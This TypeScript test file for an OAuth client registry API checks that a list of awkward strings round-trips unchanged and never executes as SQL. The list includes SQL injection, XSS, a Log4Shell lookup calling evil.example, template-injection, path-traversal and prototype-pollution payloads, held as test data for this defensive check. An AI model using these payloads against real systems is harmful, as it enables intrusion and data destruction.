import type { OAuthClientDto } from '../../../src/oauth-clients/dto/oauth-client.dto.js';
import type { Body } from '../../support/registry.js';
import { useRegistry } from '../../support/use-registry.js';

/** Valid text that has broken other software: it is data, so it comes back as it went in. */
const NAUGHTY = [
  "'; drop table oauth_clients; --",
  "Robert'); DELETE FROM organizations WHERE ('a'='a",
  '$1, $2 and :name and ?',
  "E'\\x41' \\' \\\\ \\0 \\n",
  '{"name":"json"}',
  '{curly,"braces",NULL}',
  'NULL',
  'null',
  'undefined',
  'true',
  '0',
  '1e400',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;&amp;&#39;',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return this")()}}',
  '#{7*7} <%= 7*7 %> ${7*7}',
  '%00 %0d%0a %s %n %x',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '=1+1',
  '@import "evil"',
  'mañana déjà vu',
  'man\u0303ana de\u0301ja\u0300 vu',
  'Z\u0311\u036B\u0343\u036AA\u0334\u0335\u031CL\u0320',
  'العربية وعبرית',
  'שלום',
  '漢字 かな カナ 한국어',
  '👩‍👩‍👧‍👦 🇩🇪 👍🏿 ❤️',
  '\u{1F600}\u{10FFFF}\u{E000}',
  'a\u200Cb\u200Dc\u200Ed',
  '\uFFFD\uFFFE',
  'ﬁ ß İ ı Å Ω ㎏ ½',
  ' leading and trailing ',
  'l1\u00A0l2',
];

describe('naughty but valid text', () => {
  const { registry, tenant } = useRegistry();

  it.each(NAUGHTY)('naughty but valid text comes back as it was sent: %j', async (text) => {
    const created = await tenant.createClient({ name: text, description: text });
    const path = tenant.client(created.id);
    const patched = await registry.api.patch<OAuthClientDto>(path, {
      token: tenant.developer,
      body: { name: `${text}!`, description: `!${text}` },
    });
    const read = await registry.api.get<OAuthClientDto>(path, { token: tenant.viewer });
    expect([created, patched.body, read.body].map(({ name, description }) => [name, description])).toEqual([
      [text, text],
      [`${text}!`, `!${text}`],
      [`${text}!`, `!${text}`],
    ]);
  });

  it('naughty but valid text comes back in the names of organizations and projects, and in subjects', async () => {
    const token = await registry.platform();
    const organization = `/v1/organizations/${tenant.organizationId}`;
    for (const text of NAUGHTY) {
      const name = { token, body: { name: text } };
      const put = await registry.api.put<Body>(organization, name);
      const project = await registry.api.put<Body>(`${organization}/projects/${tenant.projectId}`, name);
      const member = await registry.api.put<Body>(`${organization}/members/${encodeURIComponent(text)}`, {
        token,
        body: { role: 'viewer' },
      });
      expect([put.body['name'], project.body['name'], member.body['subject']]).toEqual([text, text, text]);
    }
  });

  it('no naughty text reaches the database as a statement', async () => {
    const { rows } = await registry.database.query(
      'select count(*)::int as count from oauth_clients where project_id = $1',
      [tenant.projectId],
    );
    expect(rows).toEqual([{ count: NAUGHTY.length }]);
  });
});
